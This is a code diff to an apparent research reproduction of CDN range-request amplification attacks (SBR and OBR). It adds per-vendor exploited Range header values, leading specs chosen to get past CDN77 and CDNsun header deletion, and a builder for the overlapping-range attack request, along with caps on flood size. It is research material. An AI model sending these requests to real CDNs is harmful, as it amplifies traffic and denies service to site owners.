@@ -17,16 +17,18 @@ measuring anything.
   (StackPath).
 * OBR (§IV-C): a cascade is vulnerable when the front CDN, run with the
   configuration the attack declares for it
-  (:func:`~repro.core.obr.exploited_fcdn_config`), forwards an
-  overlapping multi-range shape *unchanged* (Laziness, Table II) and the
-  back CDN *honors* overlapping ranges with a multipart reply
-  (Table III).
+  (:func:`exploited_fcdn_config`), forwards an overlapping multi-range
+  shape *unchanged* (Laziness, Table II) and the back CDN *honors*
+  overlapping ranges with a multipart reply (Table III).
+
+What the SBR and OBR attacks send (Tables IV and V) is declared here
+too, so that the wire attacks and the static bounds read the same facts.
 """
 
 from __future__ import annotations
 
 from dataclasses import dataclass
-from typing import Callable, Optional, Tuple
+from typing import Callable, List, Optional, Tuple
 
 from repro.cdn.multirange import MultiRangeReplyBehavior
 from repro.cdn.policy import ForwardPolicy
@@ -37,7 +39,8 @@ from repro.cdn.vendors.base import (
     VendorContext,
     VendorProfile,
 )
-from repro.core.obr import exploited_fcdn_config
+from repro.errors import ConfigurationError
+from repro.http.grammar import overlapping_open_ranges_value
 from repro.http.message import HttpRequest
 from repro.http.ranges import try_parse_range_header
 from repro.obs.memo import Memo
@@ -66,6 +69,120 @@ MULTI_RANGE_SHAPES: Tuple[str, ...] = (
 #: Size regimes :func:`classify_sbr` probes: below and above every size
 #: threshold the profiles encode (Azure's 8 MB, Huawei's 10 MB).
 DEFAULT_PROBE_SIZES: Tuple[int, ...] = (1 * MB, 25 * MB)
+
+
+# ---------------------------------------------------------------------------
+# What the attacks send
+# ---------------------------------------------------------------------------
+
+#: Largest attack intensity ``m`` (SBR requests per second) a command
+#: line or scenario file may ask of the Fig 7 flood: its work grows with
+#: m, and untrusted input must not buy unbounded work.
+MAX_FLOOD_M = 1000
+
+#: Vendors whose exploited case is the plain first-byte request.
+_PLAIN_FIRST_BYTE = (
+    "akamai",
+    "cdn77",
+    "cdnsun",
+    "cloudflare",
+    "fastly",
+    "gcore",
+    "stackpath",
+    "tencent",
+)
+
+
+def exploited_range_cases(vendor: str, resource_size: int) -> List[str]:
+    """Table IV column 2: the Range values one SBR attack round sends.
+
+    Most vendors take a single request; KeyCDN needs the same request
+    twice (its second-sighting Deletion).  Azure and Huawei switch cases
+    with the target size.
+    """
+    if vendor in _PLAIN_FIRST_BYTE:
+        return ["bytes=0-0"]
+    if vendor == "alibaba":
+        return ["bytes=-1"]
+    if vendor == "azure":
+        if resource_size <= 8 * MB:
+            return ["bytes=0-0"]
+        return ["bytes=8388608-8388608"]
+    if vendor == "huawei":
+        if resource_size < 10 * MB:
+            return ["bytes=-1"]
+        return ["bytes=0-0"]
+    if vendor == "cloudfront":
+        return ["bytes=0-0,9437184-9437184"]
+    if vendor == "keycdn":
+        return ["bytes=0-0", "bytes=0-0"]
+    raise ConfigurationError(f"no exploited SBR case known for vendor {vendor!r}")
+
+
+#: The largest overlap count ``n`` any entry point searches or accepts.
+#: It sits above every modeled cascade's header-limit cap, and it keeps
+#: an untrusted ``n`` from buying an unbounded Range header.
+MAX_OVERLAPS = 32768
+
+#: The Table V target: a 1 KB resource behind one Host.  The attacking
+#: client aborts after ``CLIENT_ABORT_AFTER`` response bytes.
+TARGET_PATH = "/1KB.bin"
+TARGET_HOST = "victim.example"
+CLIENT_ABORT_AFTER = 2048
+
+
+def exploited_fcdn_config(fcdn: str) -> Optional[VendorConfig]:
+    """The front-CDN configuration the Table V setup uses.
+
+    Cloudflare forwards multi-range requests unchanged only when the
+    target path is configured *Bypass* (Table II); every other front end
+    runs its default configuration.
+    """
+    if fcdn == "cloudflare":
+        return VendorConfig(bypass_cache=True)
+    return None
+
+
+def exploited_leading_spec(fcdn: str) -> Optional[str]:
+    """Table V column 3: the first spec of the exploited multi-range.
+
+    CDN77 deletes Range headers whose first range starts below byte 1024,
+    so the attack leads with a suffix spec; CDNsun deletes when the first
+    range is anchored at 0, so it leads with ``1-``.  Cloudflare and
+    StackPath take plain ``0-``.
+    """
+    if fcdn == "cdn77":
+        return "-1024"
+    if fcdn == "cdnsun":
+        return "1-"
+    return None
+
+
+def exploited_request(fcdn: str, overlap_count: int) -> HttpRequest:
+    """The OBR attack request the client sends through ``fcdn``."""
+    range_value = overlapping_open_ranges_value(
+        overlap_count, leading=exploited_leading_spec(fcdn)
+    )
+    return HttpRequest(
+        "GET", TARGET_PATH, headers=[("Host", TARGET_HOST), ("Range", range_value)]
+    )
+
+
+def forwarded_verbatim(
+    fcdn: str, front: VendorProfile, request: HttpRequest, resource_size: int
+) -> Optional[HttpRequest]:
+    """The request ``front`` sends upstream when its decision table
+    forwards the Range header unchanged (Laziness); ``None`` otherwise."""
+    range_value = request.headers.get("Range")
+    config = exploited_fcdn_config(fcdn)
+    ctx = VendorContext(
+        config=config if config is not None else front.effective_config(),
+        resource_size_hint=resource_size,
+    )
+    decision = front.forward_decision(request, try_parse_range_header(range_value), ctx)
+    if decision.forwarded_range != range_value:
+        return None
+    return front.build_upstream_request(request, decision)
 
 
 @dataclass(frozen=True)
@@ -277,7 +394,7 @@ def classify_cascade(
 
     The front end runs ``fcdn_config`` or, when none is given, the
     configuration the paper's Table V setup declares for it (Cloudflare
-    under *Bypass*, :func:`~repro.core.obr.exploited_fcdn_config`).
+    under *Bypass*, :func:`exploited_fcdn_config`).
     """
     declared = exploited_fcdn_config(fcdn) if fcdn_config is None else None
     config = fcdn_config if fcdn_config is not None else declared
